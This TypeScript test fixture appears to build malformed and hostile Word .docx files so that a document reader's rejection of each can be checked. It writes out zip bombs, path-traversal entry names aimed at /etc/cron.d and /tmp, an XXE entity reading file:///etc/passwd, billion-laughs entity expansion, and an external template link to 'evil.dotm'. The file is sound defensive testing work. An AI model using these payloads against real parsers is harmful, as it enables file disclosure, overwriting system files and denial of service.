import { Paragraph } from 'docx'
import { strToU8, unzipSync, zipSync, type Zippable } from 'fflate'
import { pack } from '../circular-352'
import { encode, joinBytes, MEGABYTE, type HostileFile } from './hostile-file'

const NAMESPACE = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const DEAR = '<w:p><w:r><w:t>Dear Sir/Madam,</w:t></w:r></w:p>'
const LOCAL_HEADER = 0x04034b50
const CENTRAL_HEADER = 0x02014b50

const honest = async () => unzipSync(await pack([new Paragraph('Dear Sir/Madam,')]))
const wordWith = async (others: Zippable) => zipSync({ ...(await honest()), ...others })
const wordOf = (body: string, head = '') =>
  wordWith({
    'word/document.xml': strToU8(
      `${head}<w:document ${NAMESPACE}><w:body>${body}</w:body></w:document>`,
    ),
  })
const spaces = (megabytes: number) => new Uint8Array(megabytes * MEGABYTE).fill(32)

/** The headers of an archive, changed where they stand. */
function withHeaders(file: Uint8Array, change: (view: DataView, at: number) => void): Uint8Array {
  const bytes = new Uint8Array(file)
  const view = new DataView(bytes.buffer)
  for (let at = 0; at < bytes.length - 46; at++) {
    const signature = view.getUint32(at, true)
    if (signature === LOCAL_HEADER || signature === CENTRAL_HEADER) change(view, at)
  }
  return bytes
}

/** The fields of a central header lie two bytes further, and more from the name on. */
function fieldAt(view: DataView, at: number, field: number): number {
  return at + field + (view.getUint32(at, true) === CENTRAL_HEADER ? 2 : 0)
}

const oleContainer = () => {
  const bytes = new Uint8Array(4_096)
  bytes.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
  return bytes
}

function laughs(): string {
  const entities = Array.from(
    { length: 9 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  )
  return `<!DOCTYPE w [<!ENTITY l0 "lol">${entities.join('')}]>`
}

export const HOSTILE_WORD_FILES: readonly HostileFile[] = [
  {
    name: 'a part that unpacks to a thousand times its size',
    bytes: () => wordWith({ 'word/styles.xml': spaces(40) }),
    outcome: 'expands-too-far',
  },
  {
    name: 'many parts that each unpack to a little less than too much',
    bytes: () =>
      wordWith(
        Object.fromEntries(
          Array.from({ length: 60 }, (_, index) => [`word/header${index}.xml`, spaces(1)]),
        ),
      ),
    outcome: 'expands-too-far',
  },
  {
    name: 'small sizes stated, large ones inside',
    bytes: async () =>
      withHeaders(await wordWith({ 'word/styles.xml': spaces(40) }), (view, at) => {
        view.setUint32(fieldAt(view, at, 22), 10, true)
      }),
    outcome: 'expands-too-far',
  },
  {
    name: 'archives within archives',
    bytes: () => {
      let file = zipSync({ 'word.xml': spaces(10) })
      for (let depth = 0; depth < 8; depth++)
        file = zipSync({ 'a.zip': file, 'b.zip': file }, { level: 0 })
      return file
    },
    outcome: 'format-not-read',
  },
  {
    name: 'parts named to be written elsewhere',
    bytes: () =>
      wordWith({
        '/etc/cron.d/u4ssc.xml': encode('<a/>'),
        '../../../../tmp/u4ssc.xml': encode('<a/>'),
        'C:\\Windows\\u4ssc.xml': encode('<a/>'),
      }),
    outcome: 'read',
  },
  {
    name: 'a part named as what every object inherits',
    bytes: () =>
      wordWith({ 'word/__proto__.xml': encode('<a/>'), 'constructor.xml': encode('<a/>') }),
    outcome: 'read',
  },
  {
    name: 'a directory of the archive that leads nowhere',
    bytes: async () =>
      withHeaders(await wordWith({}), (view, at) => {
        if (view.getUint32(at, true) === CENTRAL_HEADER) view.setUint32(at + 42, 0xfffffff0, true)
      }),
    outcome: 'read',
  },
  {
    name: 'parts said to be encrypted that are not',
    bytes: async () =>
      withHeaders(await wordWith({}), (view, at) => {
        view.setUint16(fieldAt(view, at, 6), 1, true)
      }),
    outcome: 'read',
  },
  {
    name: 'a way of packing that nobody knows',
    bytes: async () =>
      withHeaders(await wordWith({}), (view, at) => {
        view.setUint16(fieldAt(view, at, 8), 99, true)
      }),
    outcome: 'document-damaged',
  },
  {
    name: 'ten thousand parts',
    bytes: () =>
      wordWith(
        Object.fromEntries(
          Array.from({ length: 10_000 }, (_, index) => [`word/media/${index}`, new Uint8Array(0)]),
        ),
      ),
    outcome: 'too-many-entries',
  },
  {
    name: 'elements a hundred thousand deep',
    bytes: () => wordOf(`${'<w:p>'.repeat(100_000)}x${'</w:p>'.repeat(100_000)}`),
    outcome: 'nested-too-deep',
  },
  {
    name: 'an entity from outside',
    bytes: () => wordOf('&x;', '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    outcome: 'entities-refused',
  },
  { name: 'a billion laughs', bytes: () => wordOf('&l9;', laughs()), outcome: 'entities-refused' },
  {
    name: 'entities hidden in UTF-16',
    bytes: async () => {
      const xml = `<?xml version="1.0" encoding="UTF-16"?>${laughs()}<w:document ${NAMESPACE}>&l9;</w:document>`
      return wordWith({
        'word/document.xml': new Uint8Array(Buffer.from(`\ufeff${xml}`, 'utf16le')),
      })
    },
    outcome: 'document-damaged',
  },
  {
    name: 'macros (.docm)',
    bytes: () => wordWith({ 'word/vbaProject.bin': encode('Sub AutoOpen()') }),
    outcome: 'read',
  },
  {
    name: 'a template to be fetched from elsewhere',
    bytes: () =>
      wordWith({
        'word/_rels/settings.xml.rels': encode(
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://127.0.0.1:1/evil.dotm" TargetMode="External"/></Relationships>',
        ),
      }),
    outcome: 'read',
  },
  { name: 'an old Word file (.doc)', bytes: oleContainer, outcome: 'old-word-not-read' },
  {
    name: 'a Word file with a password',
    bytes: () => joinBytes([oleContainer(), Buffer.from('EncryptedPackage', 'utf16le')]),
    outcome: 'old-word-not-read',
  },
  {
    name: 'a Word file cut in half',
    bytes: async () => {
      const file = await wordWith({})
      return file.subarray(0, file.length / 2)
    },
    outcome: 'document-damaged',
  },
  {
    name: 'ten million letters in one paragraph',
    bytes: () => wordOf(DEAR.replace('Dear', noise(10_000_000))),
    outcome: 'text-too-long',
  },
  {
    name: 'two hundred thousand paragraphs',
    bytes: () =>
      wordOf(
        Array.from({ length: 200_000 }, (_, index) => DEAR.replace('Dear', String(index))).join(''),
      ),
    outcome: 'text-too-long',
  },
  {
    name: 'a spreadsheet called .docx',
    bytes: () => zipSync({ 'xl/workbook.xml': encode('<a/>') }),
    outcome: 'format-not-read',
  },
]

/** Letters that do not pack well. */
function noise(length: number): string {
  let state = 1
  const signs: string[] = []
  for (let at = 0; at < length; at += 5) {
    state = (state * 48_271) % 2_147_483_647
    signs.push(state.toString(36).slice(-5).padStart(5, 'a'))
  }
  return signs.join('')
}
